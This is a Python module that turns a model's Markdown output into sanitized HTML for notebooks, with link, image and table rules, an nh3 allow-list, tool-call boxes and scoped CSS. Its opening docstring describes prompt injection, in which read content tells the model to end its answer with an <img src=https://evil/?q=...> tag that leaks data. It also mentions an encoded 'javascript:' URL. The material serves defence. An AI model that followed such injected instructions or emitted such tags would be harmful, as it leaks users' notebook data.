"""Model output (Markdown) to HTML that is safe to put in a notebook page.

The Markdown is CommonMark with GFM tables, ``~~strikethrough~~`` and bare http(s)/mailto
autolinks, parsed by markdown-it-py (``core.commonmark``: the same parser tells ``--code`` and
``{name}`` where code is). What the model writes is data, not markup. A dataset, a web page or
a file the model has read can carry instructions ("end your answer with
``<img src=https://evil/?q=...>``"), so nothing the model writes may become live HTML, script,
or a request the browser makes on its own. The rules:

* Raw HTML in the Markdown is **escaped**, not stripped: the person sees exactly what the model
  wrote (``<script>`` shows as text) instead of a silently changed answer (the parser's ``html``
  option is off).
* Images are **never loaded**: ``![alt](url)`` becomes a link labelled ``image: alt``. A remote
  ``<img>`` fetches its URL as soon as it is shown, with no click, which is the classic way to
  smuggle notebook data out in a query string; ``data:`` images would be safe but models do not
  write them. A link costs the person one deliberate click.
* Links keep only absolute ``http``, ``https`` and ``mailto`` URLs (the parser has decoded
  entities by then, so ``&#106;avascript:`` is judged as ``javascript:``; relative URLs would
  point into the Jupyter server); they get ``rel="noopener noreferrer nofollow"`` and open in a
  new tab.
* Everything then goes through an nh3 allow-list of tags, attributes, classes and URL schemes.
  No ``style`` attribute survives: table alignment travels as the ``align`` attribute, allowed
  only with the values left/center/right, and the CSS turns it into ``text-align``.
* Code is written as ``<span class="kw">``-style spans with a dozen classes of our own (the
  only classes the sanitizer keeps on a span), from Pygments (``highlight``); the colours live
  in ``STYLE``, from the notebook theme's editor colours.

Our own markup (the thinking ``<details>``, error and usage boxes) is added *after*
sanitizing, around text we escape or HTML that was already sanitized.

Each top-level block renders to the same HTML alone as inside the whole document, and
``render_markdown`` drops the parser's final newline, so blocks joined by ``"\n"`` equal the
whole: ``incremental`` relies on it to render a streaming answer block by block.
"""

from __future__ import annotations

import html as _html
import json
import re
import threading

import nh3

from ..core.commonmark import fence_closed, line_starts, new_parser
from .highlight import CODE_CLASS, TOKEN_CLASSES, code_box, escape, highlight_cached

__all__ = [
    "ANSWER_CLASSES",
    "CSS",
    "STYLE",
    "format_tool_call",
    "render_error",
    "render_markdown",
    "render_notice",
    "render_redacted_thinking",
    "render_thinking",
    "render_tool_call",
    "render_tool_result",
    "tool_result_summary",
    "render_usage_line",
    "wrap_answer",
    "wrap_thinking",
]

_ALIGN = {"left", "center", "right"}
_CLEANER = nh3.Cleaner(
    tags={
        "a", "blockquote", "br", "code", "del", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6",
        "hr", "li", "ol", "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead",
        "tr", "ul",
    },
    attributes={"a": {"href", "title"}, "ol": {"start"}},
    tag_attribute_values={"th": {"align": _ALIGN}, "td": {"align": _ALIGN}},
    allowed_classes={"span": set(TOKEN_CLASSES), "div": {CODE_CLASS}, "a": {"claude-image"}},
    url_schemes={"http", "https", "mailto"},  # relative URLs are dropped by _link_open
    link_rel="noopener noreferrer nofollow",
    set_tag_attribute_values={"a": {"target": "_blank"}},
    strip_comments=True,
)

_SAFE_URL = re.compile(r"(?:https?://|mailto:)", re.I)
_TEXT_ALIGN = re.compile(r"text-align:\s*(left|center|right)")


def _fence(self, tokens, idx, options, env) -> str:
    """A fenced block in our box, coloured when it names a language.

    While an answer streams (``env["streaming"]``), a fence that is still open (or closed
    only by a line still being written) is shown escaped but not coloured: lexing the
    growing code on every update would make a long block quadratic, and the box is the
    same, so only the colours arrive when it closes, once, with the finished block.
    """
    token = tokens[idx]
    language = token.info.strip().split(maxsplit=1)[0] if token.info.strip() else ""
    if env.get("streaming") and (not fence_closed(token) or token.map[1] > env["complete_lines"]):
        env["open_fence"] = True
        return code_box(escape(token.content)) + "\n"
    if not language:
        return code_box(escape(token.content)) + "\n"
    return code_box(highlight_cached(token.content, language)) + "\n"


def _code_block(self, tokens, idx, options, env) -> str:
    return code_box(escape(tokens[idx].content)) + "\n"


def _link_open(self, tokens, idx, options, env) -> str:
    """Links keep only absolute ``http(s)``/``mailto`` URLs (nh3 checks the scheme again)."""
    token = tokens[idx]
    if not _SAFE_URL.match(str(token.attrGet("href") or "")):
        token.attrs.pop("href", None)
    return self.renderToken(tokens, idx, options, env)


def _image(self, tokens, idx, options, env) -> str:
    """An image becomes a link to it, labelled ``image: alt``: it is never fetched by itself."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    alt = self.renderInlineAsText(token.children or [], options, env) or str(token.attrGet("title") or "")
    label = escape(f"image: {alt}" if alt else "image")
    href = f' href="{_html.escape(src, quote=True)}"' if _SAFE_URL.match(src) else ""
    return f'<a{href} class="claude-image">{label}</a>'


def _cell_open(self, tokens, idx, options, env) -> str:
    """Table alignment as ``align`` (the sanitizer drops every ``style``)."""
    token = tokens[idx]
    style = token.attrs.pop("style", None)
    match = _TEXT_ALIGN.search(str(style or ""))
    if match:
        token.attrSet("align", match.group(1))
    return self.renderToken(tokens, idx, options, env)


def _new_converter():
    md = new_parser()
    rules = md.add_render_rule
    rules("fence", _fence)
    rules("code_block", _code_block)
    rules("link_open", _link_open)
    rules("image", _image)
    rules("th_open", _cell_open)
    rules("td_open", _cell_open)
    return md


_local = threading.local()  # linkify-it keeps state while matching: one parser per thread


def render_markdown(text: str, *, streaming: bool = False, notes: dict | None = None) -> str:
    """Render Markdown to sanitized HTML (no container, no CSS: see ``wrap_answer``).

    ``streaming``: the text is still growing, so a code fence left open is shown uncoloured
    (see ``_fence``), and ``notes["open_fence"]`` is set when that happened (the HTML then
    differs from the final render).
    """
    md = getattr(_local, "md", None)
    if md is None:
        md = _local.md = _new_converter()
    env = notes if notes is not None else {}
    env["streaming"] = streaming
    if streaming:  # lines that end in a line break; a fence closed after them is still open
        env["complete_lines"] = len(line_starts(text)) - 2
    return _CLEANER.clean(md.render(text, env)).rstrip("\n")


#: The classes of the container of every answer: ours, then the ones that tell MathJax
#: (JupyterLab 4 typesets ``text/html`` outputs; 2 in older front ends) to leave it alone, so
#: "$120 in January to $150 in July" stays money, not math.
ANSWER_CLASSES = "claude-answer mathjax_ignore tex2jax_ignore"


def wrap_answer(body_html: str, *, style: bool = True) -> str:
    """Put already-safe HTML in the scoped container, with the CSS in front unless told not to."""
    return (STYLE if style else "") + f'<div class="{ANSWER_CLASSES}">{body_html}</div>'


def wrap_thinking(body_html: str, *, expanded: bool = False, label: str = "Thinking") -> str:
    """A collapsible box around *already sanitized* HTML of the model's thinking."""
    return (
        f'<details class="claude-thinking"{" open" if expanded else ""}>'
        f"<summary>{escape(label)}</summary>{body_html}</details>"
    )


def render_thinking(text: str) -> str:
    """The model's thinking, rendered and sanitized, collapsed under a "Thinking" summary."""
    return wrap_thinking(render_markdown(text))


def render_redacted_thinking() -> str:
    """Thinking the API returned encrypted: nothing to read, but the person should know it exists."""
    return '<div class="claude-thinking">Thinking (redacted by the API; passed back unchanged)</div>'


def render_tool_call(name: str, arguments) -> str:
    """A collapsed box: the summary is the ``tool call: name(key=value, ...)`` line (long
    arguments shortened), the body the whole input - ``run_python``'s code and a bash
    ``command`` as highlighted code, anything else as indented JSON - escaped."""
    summary = escape(format_tool_call(name, arguments, limit=120))
    return (
        f'<details class="claude-tool"><summary><code>{summary}</code></summary>'
        f"{_tool_input_html(arguments)}</details>"
    )


def _tool_input_html(arguments) -> str:
    if isinstance(arguments, dict) and len(arguments) == 1:
        (key, value), = arguments.items()
        if isinstance(value, str) and key in ("code", "command"):
            return code_box(highlight_cached(value, "python" if key == "code" else "bash"))
    if arguments in (None, "", {}):
        return ""
    text = json.dumps(arguments, ensure_ascii=False, indent=2, default=str)
    return code_box(escape(_clip(text, TOOL_TEXT_LIMIT)))


#: How much of a tool's input or result a box shows; the rest is counted, not shown.
TOOL_TEXT_LIMIT = 4000


def _clip(text: str, limit: int) -> str:
    if len(text) <= limit:
        return text
    return text[:limit] + f"\n… ({len(text) - limit:,} more characters)"


def tool_result_summary(name: str, error: bool) -> str:
    """The one line a tool result shows: who it answers, and whether it is an error."""
    return f"{'error from' if error else 'result of'} {name or 'a tool'}"


def render_tool_result(name: str, text: str, *, error: bool = False) -> str:
    """A collapsed box after its call: "result of NAME" (or "error from NAME", marked as an
    error), the result's text - escaped, clipped - as the body. Images are only labels."""
    marker = " claude-tool-error" if error else ""
    body = code_box(escape(_clip(text, TOOL_TEXT_LIMIT))) if text else ""
    return (
        f'<details class="claude-tool claude-tool-result{marker}">'
        f"<summary>{escape(tool_result_summary(name, error))}</summary>{body}</details>"
    )


def format_tool_call(name: str, arguments, limit: int = 300) -> str:
    """The plain-text line for a tool call (also what terminals and ``text/plain`` show)."""
    if isinstance(arguments, dict):
        args = ", ".join(f"{k}={json.dumps(v, ensure_ascii=False, default=str)}" for k, v in arguments.items())
    elif arguments in (None, ""):
        args = ""
    else:
        args = json.dumps(arguments, ensure_ascii=False, default=str)
    if len(args) > limit:
        args = args[: limit - 1] + "…"
    return f"tool call: {name}({args})"


def render_error(message: str) -> str:
    """A short, escaped error box (the partial answer above it stays visible)."""
    return f'<div class="claude-error">{escape(message)}</div>'


def render_notice(message: str) -> str:
    """A quiet line for things the person should know but that are not errors (interrupted...)."""
    return f'<div class="claude-notice">{escape(message)}</div>'


def render_usage_line(text: str) -> str:
    """The small grey usage footer (tokens, cost, time)."""
    return f'<div class="claude-usage">{escape(text)}</div>'


# ---------------------------------------------------------------------------------------------
# CSS, scoped under .claude-answer. JupyterLab's theme variables first (so light and dark
# themes both look right); the fallbacks are mid-tone or translucent colours that read on a
# white and on a dark background, for VS Code, Colab and exported HTML.
#
# JupyterLab styles every text/html output with rules such as
# ``.jp-ThemedContainer .jp-RenderedHTMLCommon code`` (a background on every <code>, which
# inside a <pre> paints each line separately: striped blocks) and
# ``:not(.jp-RenderedMarkdown).jp-RenderedHTMLCommon td`` (every cell right-aligned). Those
# weigh two classes and an element; the rules they contest here name our class twice
# (``_AA``) and so outweigh them whatever the stylesheet order, in every front end alike.

_TOKEN_COLOURS = {
    "kw": "var(--jp-mirror-editor-keyword-color,#a45bd0)",
    "str": "var(--jp-mirror-editor-string-color,#3c9a3c)",
    "com": "var(--jp-mirror-editor-comment-color,#8a8a8a);font-style:italic",
    "num": "var(--jp-mirror-editor-number-color,#2f8fcf)",
    "def": "var(--jp-mirror-editor-def-color,#2f7fd0)",
    "bi": "var(--jp-mirror-editor-builtin-color,#c0802a)",
    "meta": "var(--jp-mirror-editor-meta-color,#c0802a)",
    "op": "var(--jp-mirror-editor-operator-color,#a45bd0)",
    "tag": "var(--jp-mirror-editor-tag-color,#3c9a3c)",
    "attr": "var(--jp-mirror-editor-attribute-color,#c0802a)",
    "del": "var(--jp-error-color1,#d9534f)",
    "ins": "var(--jp-success-color1,#3c9a3c)",
}

_A = ".claude-answer"
_AA = ".claude-answer.claude-answer"
_MUTED = "var(--jp-ui-font-color2,#888)"
_LINE = "var(--jp-border-color2,rgba(127,127,127,.35))"
_BOX = "var(--jp-layout-color2,rgba(127,127,127,.1))"
_RULES = [
    f"{_A}{{font-size:var(--jp-content-font-size1,14px);line-height:1.5;overflow-wrap:break-word}}",
    f"{_A} :is(p,ul,ol,table,blockquote,.{CODE_CLASS}){{margin:.5em 0}}",
    f"{_A} :is(h1,h2,h3,h4,h5,h6){{margin:.8em 0 .4em;line-height:1.25;font-size:1em}}",
    f"{_A} h1{{font-size:1.35em}}{_A} h2{{font-size:1.2em}}{_A} h3{{font-size:1.1em}}",
    f"{_A} a[href]{{color:var(--jp-content-link-color,#3b82f6)}}",
    f"{_AA} code{{font-family:var(--jp-code-font-family,monospace);font-size:.92em;"
    f"background:{_BOX};padding:0 .25em;border-radius:3px;white-space:pre-wrap}}",
    # one box per block: the <pre> has the background, the <code> inside none
    f"{_AA} pre{{margin:0;padding:.6em .8em;background:{_BOX};border:0;border-radius:4px;overflow-x:auto;"
    f"line-height:1.4;white-space:pre;color:inherit;font-size:var(--jp-code-font-size,13px)}}",
    f"{_AA} pre code{{display:block;background:none;padding:0;border-radius:0;font-size:inherit;"
    f"line-height:inherit;white-space:inherit}}",
    f"{_AA} table{{border-collapse:collapse;margin-left:0;margin-right:0;table-layout:auto;font-size:inherit;"
    f"color:inherit}}",
    # JupyterLab right-aligns table cells in outputs (for DataFrames); Markdown tables start left
    f"{_AA} :is(th,td){{border:1px solid {_LINE};padding:.25em .6em;text-align:start;line-height:1.4}}",
    f"{_AA} li>:is(ul,ol){{margin:0}}",
    f"{_AA} :is(th,td)[align=left]{{text-align:left}}{_AA} :is(th,td)[align=center]{{text-align:center}}"
    f"{_AA} :is(th,td)[align=right]{{text-align:right}}",
    f"{_A} blockquote{{border-left:3px solid {_LINE};padding-left:.8em;color:{_MUTED}}}",
    f"{_A} hr{{border:none;border-top:1px solid {_LINE}}}",
    f"{_A} .claude-thinking{{color:{_MUTED};margin:.3em 0;font-size:.95em}}",
    f"{_A} .claude-thinking>summary{{cursor:pointer;user-select:none}}",
    f"{_A} .claude-tool{{margin:.4em 0;color:{_MUTED}}}",
    f"{_A} .claude-tool>summary{{cursor:pointer;user-select:none}}",
    f"{_A} .claude-tool>.{CODE_CLASS}{{margin:.3em 0 0;color:var(--jp-content-font-color1,inherit)}}",
    f"{_A} .claude-tool-error>summary{{color:var(--jp-error-color1,#d9534f);font-weight:600}}",
    f"{_A} .claude-error{{margin:.5em 0;padding:.4em .7em;white-space:pre-wrap;"
    f"border-left:3px solid var(--jp-error-color1,#d9534f);"
    f"background:var(--jp-rendermime-error-background,rgba(217,83,79,.1))}}",
    f"{_A} .claude-notice{{margin:.4em 0;color:{_MUTED};font-style:italic}}",
    f"{_A} .claude-usage{{margin-top:.4em;color:{_MUTED};font-size:var(--jp-ui-font-size0,11px)}}",
    *(f"{_A} .{CODE_CLASS} .{cls}{{color:{colour}}}" for cls, colour in _TOKEN_COLOURS.items()),
]
CSS = "".join(_RULES)
STYLE = f"<style>{CSS}</style>"
